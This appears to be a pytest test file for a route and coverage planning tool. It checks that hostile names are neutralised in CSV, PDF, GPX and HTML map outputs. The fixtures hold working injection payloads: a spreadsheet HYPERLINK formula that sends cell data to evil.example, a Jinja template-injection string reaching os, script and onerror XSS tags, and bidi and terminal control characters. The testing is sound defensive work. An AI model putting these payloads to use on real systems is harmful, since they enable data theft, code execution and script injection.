"""Hostile names reaching the outputs: CSV cells, briefing sheets, GPX, the terminal."""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from passages._names import clean_name, csv_bytes, csv_cell, slug
from passages.briefing import write_briefings
from passages.coverage import CoverageModel, cover
from passages.export import export_plan
from passages.plan import Plan
from passages.scenarios import CoverageParameters

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
BIDI = "Lincoln\u202eloohcS hgiH\u202c"
MATH = r"$\frac{1}{0}$ Academy $$ of \sqrt{$"
#: Jinja template code: run, it would print "pwned" (and could run any Python).
TEMPLATE = '{{ "pwn" ~ "ed" }}{% if true %}{{ "ran" ~ "-if" }}{% endif %}{{ cycler.__init__.__globals__.os.getcwd() }}'


@pytest.fixture(scope="module")
def hostile_plan(sample_plans: dict[str, Plan]) -> Plan:
    """The south-la plan with hostile place and street names (the session's plan is left as it is)."""
    plan = sample_plans["south-la"]
    assert isinstance(plan, Plan)
    places = plan.places.copy()
    names = [FORMULA, BIDI, MATH, "+1 555 0100", "@SUM(A1:A9)", "-2+3", TEMPLATE]
    places["name"] = [names[i % len(names)] for i in range(len(places))]
    routes = plan.route_set.routes.copy()
    routes["origin_name"] = FORMULA
    routes["dest_name"] = [names[i % len(names)] for i in range(len(routes))]
    index = copy.copy(plan.index)
    index.segment_name = np.array([(MATH, TEMPLATE, name)[i % 3] for i, name in enumerate(plan.index.segment_name)],
                                  dtype=object)
    area = dataclasses.replace(plan.area, name=TEMPLATE)
    return dataclasses.replace(plan, area=area, places=places, index=index,
                               route_set=dataclasses.replace(plan.route_set, routes=routes))


def test_no_cell_of_the_route_sheet_starts_a_formula(hostile_plan: Plan, tmp_path: Path) -> None:
    written = export_plan(hostile_plan, tmp_path / "out")
    text = written["route_sheet"].read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells, "the route sheet is empty"
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert "'" + FORMULA in cells  # kept readable, neutralised
    assert "\u202e" not in text and "\u202c" not in text


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_template_code_in_names_is_shown_on_the_map_never_run(hostile_plan: Plan) -> None:
    """Names reach the map page as data: folium's elements must not compile them as Jinja."""
    from passages.plan import plan_documents

    page, _ = plan_documents(hostile_plan, tiles=False)
    text = page.decode("utf-8")
    assert "pwned" not in text and "ran-if" not in text and str(Path.cwd()) not in text
    assert text.count("cycler.__init__") >= 3  # the area title, a place and a street name, as text


def test_names_with_dollar_signs_are_printed_on_briefing_sheets(hostile_plan: Plan, tmp_path: Path) -> None:
    params = CoverageParameters(officers=2, mode="footbeats")
    model = CoverageModel(hostile_plan, radius_m=params.cover_radius_m)
    coverage = cover(hostile_plan, params, model=model)
    written = write_briefings(hostile_plan, coverage, model, tmp_path / "sheets", scenario="hostile")
    assert written["pdf"].read_bytes().startswith(b"%PDF")
    assert len(written) > 1


def test_gpx_of_hostile_names_is_well_formed_xml(hostile_plan: Plan) -> None:
    import xml.etree.ElementTree as ET

    from passages.export import gpx_document

    document = gpx_document(name=f"\x07{BIDI}\x1b[31m", description=MATH,
                            tracks=[("loop \x00", np.array([[-118.2, 34.0], [-118.21, 34.01]]))],
                            waypoints=[(FORMULA, -118.2, 34.0, "<script>alert(1)</script>")])
    root = ET.fromstring(document)
    texts = " ".join(t for t in root.itertext())
    assert "\x07" not in texts and "\x1b" not in texts and "\u202e" not in texts
    assert "<script>alert(1)</script>" in texts  # text, escaped by the XML writer, not markup


@given(st.text(max_size=40))
def test_a_csv_cell_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%"))
    assert not any(ch in cell for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_csv_bytes_round_trip_keeps_the_visible_text(values: list[str]) -> None:
    import pandas as pd

    frame = pd.DataFrame({"name": values, "metres": range(len(values))})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows[0] == ["name", "metres"]
    for written, value in zip(rows[1:], values, strict=True):
        visible = clean_name(value)
        formula = visible.startswith(("=", "+", "-", "@", "|", "%"))
        assert written[0] == ("'" + visible if formula else visible)


@given(st.text(max_size=80))
def test_slug_accepts_only_names_that_stay_in_their_folder(text: str) -> None:
    try:
        name = slug(text, field="name")
    except ValueError:
        return
    assert name == text and "/" not in name and "\\" not in name and not name.startswith((".", "-"))
    assert (Path("/base") / name).resolve().parent == Path("/base")


def test_hostile_concerns_reach_the_map_as_text(hostile_plan: Plan, tmp_path: Path) -> None:
    """A resident's words (a concerns file, or an accepted report) are never markup or template code."""
    from passages.concerns import read_concerns, segment_concerns
    from passages.plan import plan_documents

    path = tmp_path / "meeting.csv"
    x, y = hostile_plan.area.lon, hostile_plan.area.lat
    rows = [TEMPLATE, "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", BIDI]
    quoted = ['"' + text.replace('"', '""') + '"' for text in rows]
    path.write_text("lat,lon,category,date\n" + "".join(
        f"{y + 0.001 * i},{x},{cell},2026-10-0{i + 1}\n" for i, cell in enumerate(quoted)), encoding="utf-8")
    concerns = read_concerns(path).to_crs(hostile_plan.index.crs)
    assert "\u202e" not in "".join(concerns["category"])  # bidi controls cleaned on reading
    plan = dataclasses.replace(hostile_plan, concerns=segment_concerns(concerns, hostile_plan.index))
    text = plan_documents(plan, tiles=False)[0].decode("utf-8")
    assert "pwned" not in text and "ran-if" not in text
    assert "<script>alert(1)</script>" not in text and "<img src=x" not in text
    assert "alert(1)" in text and "Community concerns" in text  # shown, as text
